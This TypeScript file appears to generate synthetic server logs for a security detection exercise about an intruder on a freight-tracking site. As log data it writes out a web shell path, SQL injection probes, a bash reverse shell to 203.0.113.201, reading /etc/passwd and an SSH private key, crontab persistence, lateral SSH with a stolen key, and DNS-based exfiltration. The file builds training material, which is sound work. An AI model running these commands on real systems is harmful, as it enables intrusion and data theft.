/**
 * Logs of the machines of one story, as their daemons write them: everyday lines, and among them what the
 * story's alerts are about, at the same moments. Chance is of its own: other figures rest on the demo's.
 */
import { DAY_MS, HOUR_MS, MINUTE_MS, toIso } from '../../../../shared/kernel/time.ts';
import type { StoryStep } from './detection.ts';
import { createRandom, type Random } from './random.ts';
import { syslogTime } from './scene.ts';

export interface StoryLogs {
  readonly now: number;
  /** The moment so long ago. */
  readonly ago: (span: string) => number;
  readonly steps: readonly StoryStep[];
  /** Addresses of the machines inside, by name. */
  readonly address: (host: string) => string;
  /** Addresses of customers. */
  readonly customers: readonly string[];
}

interface Line {
  readonly at: number;
  readonly text: string;
}

const SEED = 405;
const SITE = 'track.kestrelharbour.example';
const SECOND_MS = 1_000;
const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Gecko/20100101 Firefox/131.0',
  'Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0',
  'Mozilla/5.0 (Macintosh) AppleWebKit/605.1.15 Safari/605.1.15',
];
const SHELL_PAGE = '/img/.thumb.php';
const INTRUDER = '192.0.2.146';
const SCANNED = [
  ...['/admin', '/login.php', '/.git/config', '/.env', '/backup.zip', '/phpinfo.php', '/test'],
  ...['/wp-login.php', '/console', '/server-status', '/old', '/db.sql', '/config.bak', '/api/v1'],
];

const inOrder = (lines: readonly Line[]): string =>
  `${lines
    .toSorted((a, b) => a.at - b.at)
    .map(({ text }) => text)
    .join('\n')}\n`;

interface Asked {
  readonly peer: string;
  readonly request: string;
  readonly status: number;
  readonly bytes: number;
  readonly agent: string;
}

/** As the server's own form has it: the site, then the combined form. */
function accessLine(at: number, { peer, request, status, bytes, agent }: Asked): Line {
  const [, year = '', , day = ''] = /^(\d{4})-(\d{2})-(\d{2})/.exec(toIso(at)) ?? [];
  const month = syslogTime(at).slice(0, 3);
  const time = `${day}/${month}/${year}:${toIso(at).slice(11, 19)} +0000`;
  return {
    at,
    text: `${SITE} ${peer} - - [${time}] "${request} HTTP/1.1" ${status} ${bytes} "-" "${agent}"`,
  };
}

/** Customers who look where their freight is, all the time. */
function everydayRequests(logs: StoryLogs, random: Random, until: number): Line[] {
  const lines: Line[] = [];
  for (let at = logs.ago('5d9h'); at < until; at += random.int(20, 190) * SECOND_MS) {
    const peer = random.pick(logs.customers);
    const agent = random.pick(BROWSERS);
    const number = `KHF${random.int(1_000_000, 9_999_999)}`;
    const status = random.int(1, 40) === 1 ? 404 : 200;
    const asked = { peer, agent, status, bytes: random.int(1_800, 2_600) };
    lines.push(accessLine(at, { ...asked, request: `GET /track?ref=${number}` }));
    const picture = { ...asked, status: 200, bytes: 9_214, request: 'GET /img/harbour.webp' };
    lines.push(accessLine(at + random.int(1, 3) * SECOND_MS, picture));
  }
  return lines;
}

/** The requests that the sensor told of, and those around them. */
function intruderRequests(logs: StoryLogs, random: Random): Line[] {
  const lines: Line[] = [];
  const add = (at: number, request: string, status: number, bytes: number, agent: string) =>
    lines.push(accessLine(at, { peer: INTRUDER, request, status, bytes, agent }));
  for (const { before, peer, suricata } of logs.steps) {
    if (peer !== INTRUDER || suricata?.app?.type !== 'http') continue;
    const { method, url, status, agent = '-' } = suricata.app;
    const isAnswered = url.includes('ref=');
    add(logs.ago(before), `${method} ${url}`, status, isAnswered ? 40_960 : 2_114, agent);
  }
  SCANNED.forEach((path, index) => {
    add(logs.ago('5d6h') + (index + 1) * 700, `GET ${path}`, 404, 162, 'site-checker/2.1');
  });
  for (const tried of ['%27', '1%27--', '1%20AND%201=1'])
    add(
      logs.ago('5d5h2m') - random.int(2, 9) * MINUTE_MS,
      ...[`GET /track?ref=${tried}`, 500, 311, 'Mozilla/5.0'],
    );
  for (const [before, words] of [
    ['5d4h34m', 'id'],
    ['5d4h33m', 'id;uname'],
    ['5d4h30m', 'connect'],
    ['4d22h', 'who;ip;ss'],
    ['4d21h', 'crontab'],
  ] as const)
    add(logs.ago(before), `POST ${SHELL_PAGE}`, 200, 180 + words.length * 37, 'Mozilla/5.0');
  return lines;
}

export function webAccessLog(logs: StoryLogs, until: number): string {
  const random = createRandom(SEED);
  return inOrder([...everydayRequests(logs, random, until), ...intruderRequests(logs, random)]);
}

interface Run {
  readonly at: number;
  readonly serial: number;
  readonly account: string;
  readonly parent: string;
  readonly words: readonly string[];
}

/** A program that was started: three records of one serial. */
function auditRun({ at, serial, account, parent, words }: Run): Line[] {
  const stamp = `msg=audit(${(at / 1000).toFixed(3)}:${serial})`;
  const [program = 'sh'] = words;
  const list = words.map((word, index) => `a${index}=${auditText(word)}`).join(' ');
  return [
    `node=WEB-02 type=SYSCALL ${stamp}: arch=c000003e syscall=59 success=yes exit=0 ppid=1187 pid=${2_000 + (serial % 20_000)} comm="${program}" exe="/usr/bin/${program}" key="exec" parent="${parent}" AUID="${account}" UID="${account}"`,
    `node=WEB-02 type=EXECVE ${stamp}: argc=${words.length} ${list}`,
    `node=WEB-02 type=EOE ${stamp}: `,
  ].map((text) => ({ at, text }));
}

/** As the kernel writes words: in hexadecimal where they hold blanks or quotes. */
const auditText = (word: string): string =>
  /[\s"]/.test(word) ? Buffer.from(word).toString('hex').toUpperCase() : `"${word}"`;

export function webAuditLog(logs: StoryLogs, until: number): string {
  const lines: Line[] = [];
  let serial = 88_104;
  const run = (at: number, account: string, parent: string, ...words: string[]) => {
    serial += 3;
    if (at < until) lines.push(...auditRun({ at, serial, account, parent, words }));
  };
  for (let at = logs.ago('5d9h'); at < until; at += 30 * MINUTE_MS) {
    run(at, 'probe', 'cron', 'curl', '-s', '-o', '/dev/null', `https://${SITE}/health`);
    run(at + 4 * SECOND_MS, 'probe', 'cron', 'df', '-h', '/srv');
    if (Math.floor(at / HOUR_MS) % 12 === 0)
      run(at + 9 * SECOND_MS, 'root', 'cron', 'logrotate', '/etc/logrotate.conf');
  }
  const page = 'php-fpm: pool track';
  run(logs.ago('5d4h33m'), 'track', page, 'sh', '-c', 'id; uname -a; cat /etc/passwd');
  run(logs.ago('5d4h31m'), 'track', page, 'sh', '-c', 'ls -la /srv/track /home');
  const out = 'bash -i >& /dev/tcp/203.0.113.201/8443 0>&1';
  run(logs.ago('5d4h30m'), 'track', page, 'sh', '-c', out);
  run(logs.ago('4d22h'), 'track', page, 'sh', '-c', 'who; ip addr; ss -tlnp');
  run(logs.ago('4d21h'), 'track', page, 'crontab', '-');
  for (let at = logs.ago('4d21h') + 10 * MINUTE_MS; at < until; at += 4 * HOUR_MS)
    run(at, 'track', 'cron', 'php', `/srv/track/public${SHELL_PAGE}`);
  run(logs.ago('3d2h4m'), 'track', page, 'sh', '-c', 'cat /srv/deploy/.ssh/id_ed25519');
  run(logs.ago('3d2h'), 'track', page, 'ssh', '-i', '/tmp/.k', `deploy@${logs.address('DB-01')}`);
  const first = '4d5a90000300000004000000ffff0000';
  for (let index = 0; index < 24; index++) {
    const name = (BigInt(`0x${first}`) + BigInt(index * 65_521)).toString(16);
    run(logs.ago('2d23h') + index * 900, 'track', page, 'dig', '+short', `${name}.t.example.org`);
  }
  return inOrder(lines);
}

export function databaseSyslog(logs: StoryLogs, until: number): string {
  const lines: Line[] = [];
  let pid = 4_310;
  const say = (at: number, program: string, text: string) => {
    pid += 7;
    if (at < until) lines.push({ at, text: `${syslogTime(at)} DB-01 ${program}[${pid}]: ${text}` });
  };
  const signIn = (at: number, account: string, from: string, port: number) => {
    say(at, 'sshd', `Accepted publickey for ${account} from ${from} port ${port} ssh2`);
    const opened = `session opened for user ${account} by (uid=0)`;
    say(at + SECOND_MS, 'sshd', `pam_unix(sshd:session): ${opened}`);
  };
  for (let at = logs.ago('5d9h'); at < until; at += HOUR_MS)
    say(at, 'CRON', 'pam_unix(cron:session): session opened for user postgres by (uid=0)');
  for (let day = 5; day > 2; day--) {
    const night = logs.now - day * DAY_MS - (logs.now % DAY_MS) + 2 * HOUR_MS;
    signIn(night, 'backup', logs.address('BAK-01'), 40_000 + day);
    signIn(night + 7 * HOUR_MS, 't.greer', logs.address('WS-IT-003'), 51_200 + day);
  }
  signIn(logs.ago('3d2h'), 'deploy', logs.address('WEB-02'), 43_918);
  const read = `audit: user=deploy client=${logs.address('WEB-02')} COPY customers TO STDOUT, 118,204 rows`;
  say(logs.ago('3d1h20m'), 'postgres', read);
  say(
    logs.ago('3d1h12m'),
    ...(['sshd', 'pam_unix(sshd:session): session closed for user deploy'] as const),
  );
  return inOrder(lines);
}
